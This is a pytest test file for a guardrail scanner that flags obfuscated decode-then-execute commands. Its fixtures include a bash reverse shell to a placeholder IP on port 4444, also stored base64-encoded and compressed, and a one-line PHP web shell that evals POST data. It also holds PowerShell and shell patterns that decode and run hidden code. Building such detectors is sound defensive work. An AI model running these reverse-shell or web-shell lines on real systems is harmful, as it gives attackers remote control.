"""Payloads kept encoded until they run (decode-then-execute), and decoding that runs nothing."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma

import pytest

from services.guardrail.scanning.decoders import find_encoded
from tests.unit.guardrail.helpers import kinds

_REVERSE = b"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
_HARMLESS = base64.b64encode(b"echo build finished; date").decode()


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize("text", [
    f'P={_HARMLESS}; eval "$(echo $P | base64 --decode)"',
    f'bash -c "$(echo {_HARMLESS} | base64 -d)"',
    f"sh <(printf '%s' {_HARMLESS} | base64 -d)",
    f"echo {_b64(gzip.compress(b'id; uname -a'))} | base64 -d | gunzip | sh",
    f"echo {_b64(bz2.compress(b'uptime'))} | base64 --decode | bunzip2 | bash",
    "eval \"$(echo 6375726c202d73206874747020 | xxd -r -p)\"",
    "bash -c \"$(printf '\\x69\\x64')\"",
    "echo 'rpub uryyb' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
    "$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)); Invoke-Expression $s",
    "& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))))",
    "<?php eval(gzinflate(base64_decode($_POST['z']))); ?>",
    "new Function(atob(payload))()",
    "perl -e 'eval(pack(\"H*\", \"7072696e7420\"))'",
    "exec(codecs.decode('vzcbeg bf', 'rot13'))",
])
def test_decode_then_execute(text: str) -> None:
    assert kinds(text), text


@pytest.mark.parametrize("compress", [gzip.compress, bz2.compress, lzma.compress])
def test_compressed_payload_inside_base64_is_decoded(compress: object) -> None:
    assert callable(compress)
    blob = _b64(compress(_REVERSE))
    assert "encoded" in kinds(f"config blob: {blob}")


def test_assigned_run_is_decoded() -> None:
    text = f"PAYLOAD={_b64(_REVERSE)}"
    assert [run.decoded for run in find_encoded(text)] == [_REVERSE.decode()]
    assert "encoded" in kinds(text)


def test_decompression_is_capped() -> None:
    bomb = _b64(gzip.compress(b"A" * 5_000_000))
    runs = find_encoded(bomb)
    assert all(len(run.decoded) <= 65_536 for run in runs)


@pytest.mark.parametrize("text", [
    "base64 -d cert.b64 > cert.der && openssl x509 -in cert.der -inform der -noout -text",
    f"The fixture is {_HARMLESS} (base64 of a harmless echo).",
    "TOKEN=$(echo -n \"$USER:$PASS\" | base64)",
    "gunzip -c access.log.gz | grep ' 500 ' | wc -l",
    "bytes = [Convert]::FromBase64String($cert); [IO.File]::WriteAllBytes('c.pfx', $bytes)",
    "const text = atob(data); console.log(text)",
    "echo $CONFIG | base64 -d | jq .database",
    "eval \"$(ssh-agent -s)\"",
    "eval \"$(pyenv init -)\"",
])
def test_decoding_that_runs_nothing(text: str) -> None:
    assert kinds(text) == set()
